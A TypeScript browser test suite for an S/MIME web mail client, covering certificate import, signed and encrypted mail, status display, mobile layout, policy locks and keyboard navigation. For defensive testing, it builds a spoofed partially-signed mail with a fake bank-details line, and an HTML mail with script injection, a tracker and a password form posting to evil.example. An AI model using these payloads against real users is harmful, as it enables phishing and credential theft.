/**
 * The web mail client in a real browser (Debian's Chromium through playwright-core), against the real
 * server and use cases on a demo organisation: import certificates from the administrator's mail,
 * send a signed mail, send a signed and encrypted one, read it as the recipient with its status, see
 * a spoofed message as "partially signed", and use it at phone size. Screenshots are kept in
 * test-artifacts/web/.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { screenshotPath } from '../helpers/browser.js';
import { pkiFile } from '../helpers/pki.js';
import type { DemoOrganisation } from '../../src/use-cases/demo-org.js';
import { startDemoWebClient, type DemoWebClient } from '../helpers/demo-web-client.js';
import { signInForm, viewDrawn } from '../helpers/web-client-page.js';

let web: DemoWebClient;
let home: string;
let org: DemoOrganisation;

before(async () => {
  web = await startDemoWebClient({ prefix: 'cachet-web-' });
  ({ home, org } = web);
});

after(() => web?.close());

function demoUser(name: 'alice' | 'bob') {
  return org.users.find((u) => u.user.address.startsWith(name))!;
}

function signIn(name: 'alice' | 'bob', viewport = { width: 1280, height: 860 }): Promise<Page> {
  return web.signIn(name, { viewport });
}

async function importCertificates(page: Page, name: 'alice' | 'bob'): Promise<void> {
  await page.getByRole('link', { name: /Your certificates for secure mail/ }).click();
  for (const [file, role] of [[`${name}-sign.pfx`, 'signing'], [`${name}-enc.pfx`, 'encryption']] as const) {
    const item = page.locator('.attachments li', { hasText: file });
    await item.getByRole('button', { name: 'Import certificate…' }).click();
    await item.getByLabel(`Password for ${file}`).fill('wrong password');
    await item.getByRole('button', { name: 'Import certificate' }).click();
    await item.getByText('That password is wrong for this file. Nothing was imported.').waitFor();
    await item.getByLabel(`Password for ${file}`).fill(demoUser(name).pfxPassword);
    await item.getByRole('button', { name: 'Import certificate' }).click();
    await item.getByText(new RegExp(`imported automatically as your ${role} certificate`)).waitFor();
  }
  await page.screenshot({ path: screenshotPath(`${name}-imported-certificates`), fullPage: true });
}

async function compose(page: Page, to: string, subject: string, body: string, expectCertificate: boolean): Promise<void> {
  await page.getByRole('link', { name: 'Compose' }).click();
  await page.getByLabel('To', { exact: true }).fill(to);
  await page.getByLabel('To', { exact: true }).press('Enter');
  const chip = page.locator(`.chip[data-address="${to}"]`);
  await chip.and(page.locator(`[data-cert="${expectCertificate}"]`)).waitFor();
  await page.getByLabel('Subject').fill(subject);
  await page.getByLabel('Message', { exact: true }).fill(body);
}

test('the reference flow in the browser: import, send signed, send encrypted, read with a trustworthy status', async () => {
  const bob = await signIn('bob');
  await bob.getByRole('link', { name: 'Settings' }).click();
  await bob.getByTestId('first-launch').getByText(/S\/MIME needs your certificates/).waitFor();
  await bob.getByRole('link', { name: 'Inbox' }).click();
  await importCertificates(bob, 'bob');

  // bob → alice: alice has no certificate known to bob, so bob sends signed, not encrypted.
  await compose(bob, 'alice@example.org', 'Hello Alice', 'This signed message introduces me.', false);
  await bob.getByRole('switch', { name: 'Encrypt' }).uncheck();
  await bob.getByRole('button', { name: 'Send' }).click();
  await bob.getByTestId('compose-feedback').getByText('Sent and signed.').waitFor();

  const alice = await signIn('alice');
  await importCertificates(alice, 'alice');
  await alice.getByRole('link', { name: 'Inbox' }).click();
  await alice.getByRole('link', { name: /Hello Alice/ }).click();
  await alice.locator('.status-bar[data-status="valid"]').waitFor();

  // alice → bob: his certificate was harvested from his signed mail; the lock starts on.
  await compose(alice, 'bob@example.org', 'Quarterly figures', 'The figures are final. For Bob only.', true);
  assert.equal(await alice.getByRole('switch', { name: 'Encrypt' }).isChecked(), true, 'encrypt by default');
  await alice.screenshot({ path: screenshotPath('alice-compose'), fullPage: true });
  await alice.getByRole('button', { name: 'Send' }).click();
  await alice.getByTestId('compose-feedback').getByText('Sent, encrypted and signed.').waitFor();

  await bob.getByRole('link', { name: 'Inbox' }).click();
  await bob.reload();
  await bob.getByRole('link', { name: /\[\.\.\.\]/ }).click();
  const status = bob.locator('.status-bar');
  await status.and(bob.locator('[data-status="valid"]')).waitFor();
  assert.match((await bob.getByTestId('signature-status').textContent()) ?? '', /Signed/);
  assert.match((await bob.getByTestId('encryption-status').textContent()) ?? '', /Encrypted \(AES-256-GCM\)/);
  assert.match((await status.textContent()) ?? '', /Signed by alice@example\.org\. The signature is valid and the certificate is trusted\./);
  assert.match((await bob.getByTestId('message-text').textContent()) ?? '', /For Bob only/);
  assert.equal(await bob.getByRole('heading', { name: 'Quarterly figures' }).count(), 1, 'the protected subject is shown');
  await bob.locator('.cert-details summary').first().click();
  assert.match((await bob.locator('.cert-details').first().textContent()) ?? '', /SHA-256 fingerprint/);
  await bob.screenshot({ path: screenshotPath('bob-reads-encrypted-signed'), fullPage: true });
});

test('a signed part inside unsigned content is shown as partially signed, the added text marked', async () => {
  const bob = demoUser('bob');
  const signedPart = execFileSync('openssl', ['cms', '-sign', '-signer', pkiFile('alice.pem'), '-inkey', pkiFile('alice.key'), '-md', 'sha256'], {
    input: 'Content-Type: text/plain\r\n\r\nMeeting at 10:00 as planned.\r\n',
  }).toString('latin1');
  const spoof = [
    'From: alice@example.com',
    `To: ${bob.user.address}`,
    'Subject: Meeting',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="spoof"',
    '',
    '--spoof',
    signedPart.trimEnd(),
    '--spoof',
    'Content-Type: text/plain',
    '',
    'PS: the bank details changed, pay to account 666.',
    '--spoof--',
    '',
  ].join('\r\n');
  await bob.user.mailbox.deliver('INBOX', Buffer.from(spoof, 'latin1'));
  const page = await signIn('bob');
  await page.getByRole('link', { name: /Meeting/ }).click();
  await page.locator('.status-bar[data-status="partially-signed"]').waitFor();
  assert.match((await page.getByTestId('signature-status').textContent()) ?? '', /Partially signed/);
  const unsigned = page.getByTestId('unsigned-part');
  assert.match((await unsigned.textContent()) ?? '', /Not covered by the signature.*bank details changed/s);
  await page.screenshot({ path: screenshotPath('bob-partially-signed'), fullPage: true });
});

test('phone-sized layout (375 px): usable without horizontal scrolling, menu reachable', async () => {
  const page = await signIn('bob', { width: 375, height: 740 });
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth);
  assert.ok(overflow <= 375, `no horizontal scrolling (${overflow} px)`);
  await page.getByRole('button', { name: 'Menu' }).click();
  await page.getByRole('link', { name: 'Compose' }).waitFor();
  await page.screenshot({ path: screenshotPath('phone-menu'), fullPage: true });
  await page.getByRole('button', { name: 'Menu' }).click();
  await page.getByRole('link', { name: /Meeting/ }).click();
  await page.locator('.status-bar').waitFor();
  const width = await page.evaluate(() => document.documentElement.scrollWidth);
  assert.ok(width <= 375, `the message view fits (${width} px)`);
  await page.screenshot({ path: screenshotPath('phone-message'), fullPage: true });
});

test('HTML mail is sanitised and sandboxed: no script runs, no remote content is fetched', async () => {
  const bob = demoUser('bob');
  const html = [
    'From: newsletter@example.com',
    `To: ${bob.user.address}`,
    'Subject: Newsletter',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<h1 id="headline">News</h1><script>parent.document.title="pwned"</script>',
    '<img src="http://127.0.0.1:9/track.gif" alt="tracker"><form action="http://evil.example"><input name="pw"></form>',
    '<p onclick="alert(1)">Read more</p>',
    '',
  ].join('\r\n');
  await bob.user.mailbox.deliver('INBOX', Buffer.from(html));
  const page = await signIn('bob');
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await page.getByRole('link', { name: /Newsletter/ }).click();
  const frame = page.frameLocator('iframe.message-frame');
  await frame.locator('#headline').waitFor();
  assert.equal(await page.title(), 'Cachet Mail', 'the script did not run');
  assert.equal(await frame.locator('script').count(), 0);
  assert.equal(await frame.locator('form, input').count(), 0);
  assert.equal(await frame.locator('img[src]').count(), 0, 'the remote image lost its source');
  assert.equal(await frame.locator('[onclick]').count(), 0);
  assert.equal(await page.locator('iframe.message-frame').getAttribute('sandbox'), 'allow-same-origin', 'no scripts, forms, popups or navigation');
  assert.ok(!requests.some((url) => url.includes('track.gif') || url.includes('evil.example')), 'nothing remote was requested');
  await page.locator('.status-bar[data-status="not-signed"]').waitFor();
});

test('locked policies are shown as locked, and the group rule asks before anything goes out in clear', async () => {
  const { writeFileSync } = await import('node:fs');
  writeFileSync(join(home, 'policy.yaml'), 'groupRule: ask\nencryptByDefault: true\n');
  try {
    const page = await signIn('alice');
    await page.getByRole('link', { name: 'Settings' }).click();
    const encryptByDefault = page.getByRole('switch', { name: 'Encrypt by default' });
    assert.equal(await encryptByDefault.isDisabled(), true, 'locked by the policy');
    await page.locator('.locked').first().waitFor();
    await page.getByRole('link', { name: 'Policy' }).click();
    await page.getByRole('cell', { name: 'policy (locked)' }).first().waitFor();

    await compose(page, 'stranger@example.net', 'Hello stranger', 'No certificate for you.', false);
    const outboxTotal = '#sidebar a[href="#/folder/Outbox"] .folder-total';
    const queuedBefore = Number(await page.locator(outboxTotal).textContent());
    await page.getByRole('button', { name: 'Send' }).click();
    const decision = page.getByRole('alertdialog');
    await decision.getByText(/Send the message UNENCRYPTED to everyone\?/).waitFor();
    assert.match((await decision.textContent()) ?? '', /stranger@example\.net/);
    await page.screenshot({ path: screenshotPath('alice-group-rule-ask'), fullPage: true });
    await decision.getByRole('button', { name: 'Send unencrypted to everyone' }).click();
    // stranger@example.net has no mailbox here: refused, the mail stays in the Outbox, and it says it went in clear.
    await page.getByTestId('compose-feedback').getByText(/sent UNENCRYPTED to everyone because of stranger@example\.net/).waitFor();
    assert.match((await page.getByTestId('refused').textContent()) ?? '', /stranger@example\.net: there is no local mailbox of that name/);
    // The count beside the Outbox follows (it stayed as Compose found it).
    await page.waitForFunction(({ selector, total }) => document.querySelector(selector)?.textContent === String(total), { selector: outboxTotal, total: queuedBefore + 1 });
  } finally {
    rmSync(join(home, 'policy.yaml'), { force: true });
  }
});

test('keyboard only: sign in, reach Compose and open it without a mouse', async () => {
  const page = await signInForm(web.browser, web.server.url);
  await page.getByLabel('User name').waitFor(); // the page renders its form after asking for the session
  await page.keyboard.press('Tab');
  assert.equal(await page.evaluate(() => document.activeElement?.id), 'login-user', 'the first Tab reaches the user name');
  await page.keyboard.type(demoUser('alice').user.address);
  await page.keyboard.press('Tab');
  await page.keyboard.type('alice-password');
  await page.keyboard.press('Enter');
  // The view moves the focus to its heading once drawn: Tab from there, not from wherever it was before.
  await viewDrawn(page, 'Inbox');
  let reached = false;
  for (let i = 0; i < 100 && !reached; i++) {
    await page.keyboard.press('Tab');
    reached = (await page.evaluate(() => document.activeElement?.textContent?.trim())) === 'Compose';
  }
  assert.ok(reached, 'Tab reaches Compose');
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { name: 'New message' }).waitFor();
  await page.context().close();
});
